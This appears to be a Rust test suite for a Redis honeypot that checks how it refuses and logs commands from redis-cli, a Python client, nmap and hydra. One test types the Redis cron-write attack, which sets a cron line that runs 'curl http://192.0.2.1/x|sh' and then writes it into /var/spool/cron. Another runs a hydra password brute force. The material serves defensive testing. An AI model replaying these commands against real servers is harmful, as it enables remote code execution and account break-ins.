//! The Redis decoy and the clients that attackers use: each command is one event.

use std::io::{Read, Write};
use std::net::TcpStream;

use serde_json::{Value, json};

use crate::nest::{Nest, client, client_with_input, have};
use crate::seen::{check_frame, events};

const TITLE: &str = "Redis Command";
const NEST: &str = "
[[bird]]
name = \"files-02\"
personality = \"linux-nas\"
[bird.redis]
";
const NO_AUTH: &str = "NOAUTH Authentication required.";
const WRONG_PASS: &str = "WRONGPASS invalid username-password pair or user is disabled.";

/// What an event says.
fn command(name: &str, args: &str) -> Value {
    json!({"CMD": name, "ARGS": args})
}

/// The one incident there is has exactly these events.
fn holds(nest: &Nest, wanted: &[Value]) {
    let incident = nest.incident(TITLE, wanted.len());
    check_frame(nest, &incident, "21001", nest.port("redis"));
    assert_eq!(events(&incident), wanted);
}

/// What `redis-cli` says to `arguments` with `input` typed in.
fn redis_cli(nest: &Nest, arguments: &[&str], input: &str) -> String {
    let (host, port) = (nest.address.to_string(), nest.port("redis").to_string());
    let mut all = vec!["-h", &host, "-p", &port];
    all.extend(arguments);
    client_with_input("redis-cli", &all, input)
}

#[test]
fn redis_cli_asks_and_is_refused() {
    if !have("redis-cli") {
        return;
    }
    let nest = Nest::start(NEST);
    let said = redis_cli(&nest, &["INFO", "server"], "");
    assert!(said.contains(NO_AUTH), "{said}");
    let said = redis_cli(&nest, &["AUTH", "hunter2"], "");
    assert!(said.contains(WRONG_PASS), "{said}");
    holds(
        &nest,
        &[command("INFO", "server"), command("AUTH", "hunter2")],
    );
}

#[test]
fn redis_cli_logs_in_by_its_options() {
    if !have("redis-cli") {
        return;
    }
    let nest = Nest::start(NEST);
    let said = redis_cli(&nest, &["-a", "hunter2", "--no-auth-warning", "PING"], "");
    assert!(
        said.contains(&format!("AUTH failed: {WRONG_PASS}")) && said.contains(NO_AUTH),
        "{said}"
    );
    let user = ["--user", "admin", "--pass", "p w", "--no-auth-warning"];
    let said = redis_cli(&nest, &[&user[..], &["CONFIG", "GET", "*"]].concat(), "");
    assert!(said.contains(WRONG_PASS), "{said}");
    holds(
        &nest,
        &[
            command("AUTH", "hunter2"),
            command("PING", ""),
            command("AUTH", "admin p w"),
            command("CONFIG", "GET *"),
        ],
    );
}

#[test]
fn redis_cli_in_its_third_protocol_and_by_lines() {
    if !have("redis-cli") {
        return;
    }
    let nest = Nest::start(NEST);
    let said = redis_cli(&nest, &["-3", "DBSIZE"], "");
    assert!(
        said.contains("HELLO 3 failed: NOAUTH HELLO must be called with the client already")
            && said.contains(NO_AUTH),
        "{said}"
    );
    let typed = "SET cron \"\\n* * * * * curl http://192.0.2.1/x|sh\\n\"\nCONFIG SET dir /var/spool/cron\nSAVE\n";
    let said = redis_cli(&nest, &[], typed);
    assert_eq!(said.matches(NO_AUTH).count(), 3, "{said}");
    holds(
        &nest,
        &[
            command("HELLO", "3"),
            command("DBSIZE", ""),
            // For its help on what is typed.
            command("COMMAND", "DOCS"),
            command("COMMAND", ""),
            command("SET", "cron \n* * * * * curl http://192.0.2.1/x|sh\n"),
            command("CONFIG", "SET dir /var/spool/cron"),
            command("SAVE", ""),
        ],
    );
}

#[test]
fn redis_cli_sends_many_at_once() {
    if !have("redis-cli") {
        return;
    }
    let nest = Nest::start(NEST);
    let lines = "GET a\r\nGET b\r\nFOO bar\r\n";
    let said = redis_cli(&nest, &["--pipe", "--pipe-timeout", "1"], lines);
    assert!(
        said.contains("unknown command 'FOO', with args beginning with: 'bar'"),
        "{said}"
    );
    let incident = nest.incident(TITLE, 4);
    let events = events(&incident);
    assert_eq!(
        events[..3],
        [
            command("GET", "a"),
            command("GET", "b"),
            command("FOO", "bar")
        ]
    );
    // The client's own question whether all has been answered.
    assert_eq!(events[3]["CMD"], "ECHO");
}

#[test]
fn the_python_client_is_refused() {
    let nest = Nest::start(NEST);
    let code = format!(
        "
import json, redis
said = []
def attempt(**how):
    try:
        r = redis.Redis(host='{}', port={}, retry=None, **how)
        r.execute_command('KEYS', '*')
    except redis.exceptions.RedisError as e:
        said.append([type(e).__name__, str(e)])
attempt(protocol=2)
attempt(protocol=2, password='hunter2')
attempt(protocol=3, username='admin', password='hunter2')
print(json.dumps(said))
",
        nest.address,
        nest.port("redis")
    );
    let Some(said) = nest.python(&code) else {
        return;
    };
    let errors = said.as_array().unwrap();
    assert_eq!(errors[0][0], "AuthenticationError", "{said}");
    assert_eq!(errors[1][0], "AuthenticationError", "{said}");
    assert_eq!(errors[1][1], &WRONG_PASS[10..], "{said}");
    assert_eq!(errors[2][0], "AuthenticationError", "{said}");
    let incident = nest.incident(TITLE, nest_events(&nest));
    let events = events(&incident);
    for wanted in [
        command("KEYS", "*"),
        command("AUTH", "hunter2"),
        command("HELLO", "3 AUTH admin hunter2"),
    ] {
        assert!(events.contains(&wanted), "{wanted} in {events:#?}");
    }
}

/// How many events the one incident has now that its client has gone.
fn nest_events(nest: &Nest) -> usize {
    let all = nest.api("incidents/all");
    let count = all["incidents"][0]["description"]["events_count"].as_str();
    count.unwrap().parse().unwrap()
}

#[test]
fn nmap_finds_redis_with_a_password() {
    if !have("nmap") {
        return;
    }
    let nest = Nest::start(NEST);
    let (host, port) = (nest.address.to_string(), nest.port("redis").to_string());
    let scan = [
        "-sV",
        "--script",
        "+redis-info",
        "-Pn",
        "-n",
        "-p",
        &port,
        &host,
    ];
    let said = client("nmap", &scan);
    let line = said.lines().find(|line| line.starts_with(&port)).unwrap();
    assert!(
        line.contains("redis") && line.contains("Redis key-value store"),
        "{said}"
    );
    let incident = nest.incident(TITLE, nest_events(&nest));
    assert!(
        events(&incident).contains(&command("INFO", "")),
        "{incident:#}"
    );
}

#[test]
fn hydra_with_200_passwords_is_one_incident() {
    if !have("hydra") {
        return;
    }
    let nest = Nest::start(NEST);
    let list = nest.dir.path().join("passwords");
    let passwords: Vec<String> = (0..200).map(|n| format!("Password{n}")).collect();
    std::fs::write(&list, passwords.join("\n")).unwrap();
    let url = format!("redis://{}:{}", nest.address, nest.port("redis"));
    let said = client(
        "hydra",
        &["-I", "-t", "8", "-P", list.to_str().unwrap(), &url],
    );
    assert!(said.contains("0 valid password found"), "{said}");
    let incident = nest.incident(TITLE, nest_events(&nest).max(200));
    let events = events(&incident);
    for password in &passwords {
        let wanted = command("AUTH", password);
        assert!(events.contains(&wanted), "{password}");
    }
}

#[test]
fn a_thousand_attempts_are_one_incident_of_a_thousand_events() {
    let nest = Nest::start(NEST);
    let at = (nest.address, nest.port("redis"));
    for round in 0..10 {
        let mut stream = TcpStream::connect(at).unwrap();
        let asked: String = (0..100).map(|n| format!("AUTH p{round}-{n}\r\n")).collect();
        stream.write_all(asked.as_bytes()).unwrap();
        let answers = format!("-{WRONG_PASS}\r\n").repeat(100);
        let mut heard = vec![0; answers.len()];
        stream.read_exact(&mut heard).unwrap();
        assert_eq!(String::from_utf8(heard).unwrap(), answers);
    }
    let incident = nest.incident(TITLE, 1_000);
    assert_eq!(incident["description"]["events_count"], "1000");
    assert_eq!(nest.count(TITLE), 1);
}
